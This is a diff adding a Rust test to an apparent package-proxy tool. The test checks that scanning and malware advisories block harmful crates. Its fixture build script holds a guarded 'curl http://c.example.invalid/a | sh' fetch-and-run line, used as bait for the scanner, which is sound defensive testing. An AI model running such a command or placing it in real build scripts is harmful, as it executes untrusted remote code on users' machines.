@@ -4,7 +4,7 @@
 use std::path::PathBuf;
 use std::time::{Duration, Instant};
 
-use fanlight_testkit::{CrateRelease, Node, Output, Request, Run, State, Upstream, get, wait_for};
+use fanlight_testkit::{Advisory, CrateRelease, Node, Output, Request, Run, State, Upstream, get, wait_for};
 use fanlight_tests::{published_an_hour_ago, record_of, records_of, refuse};
 use jiff::{SignedDuration, Timestamp};
 use tempfile::TempDir;
@@ -212,4 +212,36 @@ fn cargo_is_led_to_the_door_by_its_own_settings_and_back() {
     }
     cli(&["use", "cargo", "--undo"]).ok();
     assert_eq!(std::fs::read_to_string(&settings).expect("settings"), before);
+}
+
+/// Reads as fetching a program and running it, and does nothing: no variable of that name is ever set.
+const FETCHES: &str = "fn main() {\n    if std::env::var(\"NEVER_SET_ANYWHERE\").is_ok() {\n        std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl http://c.example.invalid/a | sh\").status().unwrap();\n    }\n}\n";
+
+#[test]
+fn cargo_is_told_what_the_scan_found_and_what_an_advisory_calls_malicious() {
+    let upstream = Upstream::start();
+    for release in [
+        CrateRelease::new("harmful", "1.0.0").with_build(FETCHES),
+        CrateRelease::new("harmful", "0.9.0").days_old(60),
+        CrateRelease::new("evil", "1.0.0"),
+    ] {
+        upstream.add_crate(&release);
+    }
+    let state = State::before(&upstream, "");
+    state.advise(&Advisory::cargo("RUSTSEC-2026-0001", "holey").critical());
+    state.advise(&Advisory::cargo("MAL-2026-78", "evil").summary("it reads keys"));
+    let settings = format!("[advisories]\nsources = [{:?}]\n", state.feed().display().to_string());
+    state.configure(&State::config(&upstream, "7d", &settings));
+    let node = state.start();
+    let index = format!("{}/cargo/", node.url());
+    let room = Room::new("harmful = \"=1.0.0\"", &index);
+    room.cargo(&["fetch"]).fails().says("the scan of harmful-1.0.0.crate found: downloads something and runs it");
+    // A lock that was made before there was a Fanlight.
+    let room = Room::new("evil = \"1\"", &upstream.cargo_url());
+    room.cargo(&["generate-lockfile"]).ok();
+    room.lead_to(&index);
+    room.cargo(&["fetch", "--locked"]).fails().says("evil 1.0.0 is malicious (MAL-2026-78: it reads keys)");
+    let room = Room::new("harmful = \">=0.9\"", &index);
+    room.cargo(&["fetch"]).ok();
+    assert!(room.locks("harmful", "0.9.0"), "{}", room.lock());
 }
